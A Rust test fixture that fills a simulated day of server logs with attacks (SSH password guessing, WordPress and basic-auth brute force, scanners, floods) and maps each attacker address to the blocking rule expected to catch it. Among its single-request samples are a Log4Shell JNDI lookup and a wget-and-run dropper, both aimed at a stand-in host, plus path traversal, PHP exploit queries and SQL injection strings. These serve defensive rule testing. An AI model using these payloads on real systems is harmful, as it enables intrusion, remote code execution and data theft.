//! Attackers of every kind that the shipped rules are for, each from its own address.

use super::{CHROME, Day, FIREFOX, HOUR};

/// Whom to block, and a rule that must be among those that say so.
pub type Wanted = (&'static str, &'static str);

const MISMATCH: &str = "user \"admin\": password mismatch";
const LIMITED: &str = "limiting requests, excess: 20.480 by zone \"pages\"";

/// Puts them all into the day.
pub fn attackers(day: &mut Day) -> Vec<Wanted> {
    let mut wanted = ssh(day);
    wanted.extend(logins(day));
    wanted.extend(single_requests(day));
    wanted.extend(crowds(day));
    wanted
}

fn ssh(day: &mut Day) -> Vec<Wanted> {
    for number in 0..12 {
        day.sshd(HOUR + number * 20, "Failed password for root from 203.0.113.10 port 41022 ssh2");
        day.sshd(
            2 * HOUR + number * 30,
            "Connection closed by authenticating user root 203.0.113.11 port 41022 [preauth]",
        );
        day.sshd(
            3 * HOUR + number * 5,
            &format!("Invalid user user{number} from 203.0.113.12 port 41022"),
        );
        day.sshd(
            3 * HOUR + number * 60,
            &format!("Failed password for root from 2001:db8:ffff:1::{number:x} port 41022 ssh2"),
        );
    }
    for number in 0..40 {
        day.sshd(
            4 * HOUR + number * 1_200,
            "Failed password for root from 203.0.113.13 port 41022 ssh2",
        );
    }
    for number in 0..9 {
        day.sshd(
            5 * HOUR + number * 600,
            &format!(
                "Failed password for invalid user admin from 198.18.7.{number} port 41022 ssh2"
            ),
        );
    }
    vec![
        ("203.0.113.10", "ssh-guessing"),
        ("203.0.113.11", "ssh-hammering"),
        ("203.0.113.12", "ssh-user-enumeration"),
        ("2001:db8:ffff:1::/64", "ssh-guessing"),
        ("203.0.113.13", "ssh-guessing-slow"),
        ("198.18.7.0/24", "ssh-guessing-network"),
    ]
}

fn logins(day: &mut Day) -> Vec<Wanted> {
    for number in 0..40 {
        day.visit(HOUR + number * 10, "203.0.113.20", "POST /wp-login.php", 200, CHROME);
        day.visit(HOUR + number * 700, "203.0.113.21", "POST /blog/wp-login.php", 200, CHROME);
        day.visit(2 * HOUR + number * 5, "203.0.113.22", "POST /xmlrpc.php", 403, CHROME);
        day.visit(
            3 * HOUR + number * 5,
            "203.0.113.23",
            "POST /api/login",
            401,
            "python-requests/2.32.3",
        );
        day.visit_as(4 * HOUR + number * 2, "203.0.113.24", "admin", "GET /intern/", 401, CHROME);
        day.error(5 * HOUR + number * 2, "203.0.113.25", MISMATCH, "GET /intern/");
    }
    for number in 0..90 {
        day.visit(6 * HOUR + number / 2, "203.0.113.26", "POST /xmlrpc.php", 200, CHROME);
        day.error(7 * HOUR + number / 3, "203.0.113.27", LIMITED, "GET /search?q=x");
    }
    vec![
        ("203.0.113.20", "wp-login-guessing"),
        ("203.0.113.21", "wp-login-guessing-slow"),
        ("203.0.113.22", "wp-xmlrpc-refused"),
        ("203.0.113.23", "http-login-guessing"),
        ("203.0.113.24", "basic-auth-guessing-access-log"),
        ("203.0.113.25", "basic-auth-guessing"),
        ("203.0.113.26", "wp-xmlrpc-guessing"),
        ("203.0.113.27", "nginx-limit-req"),
    ]
}

/// One request is enough.
fn single_requests(day: &mut Day) -> Vec<Wanted> {
    let requests: [(&str, &str, &str, &str); 9] = [
        ("203.0.113.40", "GET /.env", CHROME, "probe-secrets"),
        ("203.0.113.41", "GET /wp-content/uploads/wso.php", CHROME, "probe-shells"),
        (
            "203.0.113.42",
            "GET /index.php?page=..%252F..%252F..%252F..%252Fetc%252Fpasswd",
            CHROME,
            "path-traversal",
        ),
        ("203.0.113.43", "GET /", "${jndi:ldap://198.18.0.1/a}", "injection-lookup"),
        ("203.0.113.44", "GET /", "sqlmap/1.8.3#stable (https://sqlmap.org)", "bad-agent"),
        (
            "203.0.113.45",
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            CHROME,
            "exploit-path",
        ),
        (
            "203.0.113.46",
            "POST /x.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            CHROME,
            "exploit-query",
        ),
        (
            "203.0.113.47",
            "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.18.0.1/jaws;sh+/tmp/jaws",
            CHROME,
            "injection-dropper",
        ),
        ("2001:db8:ffff:2::/64", "GET /.git/config", CHROME, "probe-secrets"),
    ];
    for (target, request, agent, _) in requests {
        let second = day.second(0, 24);
        let ip = target.replace("::/64", "::9");
        day.visit(second, &ip, request, 404, agent);
    }
    requests.iter().map(|(target, _, _, rule)| (*target, *rule)).collect()
}

/// Many requests.
fn crowds(day: &mut Day) -> Vec<Wanted> {
    let words = [
        "admin", "backup", "old", "test", "dev", "staging", "private", "secret", "config", "data",
        "logs", "tmp", "upload", "uploads", "files", "include", "lib", "src", "bin", "db", "user",
        "users", "panel", "portal", "intranet", "cms", "site", "web", "www", "home", "login",
        "app",
    ];
    for (number, word) in (0_u32..).zip(words) {
        day.visit(8 * HOUR + number / 4, "203.0.113.50", &format!("GET /{word}"), 404, FIREFOX);
        day.visit(
            9 * HOUR + number / 4,
            "203.0.113.51",
            &format!("GET /{word}x.php"),
            404,
            FIREFOX,
        );
    }
    let tests = [
        "1%27%20OR%20%271%27%3D%271",
        "1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
        "1%20AND%20SLEEP%285%29",
    ];
    for (number, test) in (0_u32..).zip(tests) {
        day.visit(
            10 * HOUR + number,
            "203.0.113.52",
            &format!("GET /product?id={test}"),
            200,
            FIREFOX,
        );
    }
    for number in 0..1_500 {
        day.visit(11 * HOUR + number / 200, "203.0.113.53", "GET /search?q=x", 200, FIREFOX);
    }
    for client in 0..8 {
        for number in 0..300 {
            day.visit(
                12 * HOUR + number / 30,
                &format!("198.18.9.{client}"),
                "GET /search?q=x",
                200,
                FIREFOX,
            );
        }
    }
    vec![
        ("203.0.113.50", "scanner"),
        ("203.0.113.51", "scanner-php"),
        ("203.0.113.52", "injection-sql"),
        ("203.0.113.53", "http-flood"),
        ("198.18.9.0/24", "http-flood-network"),
    ]
}
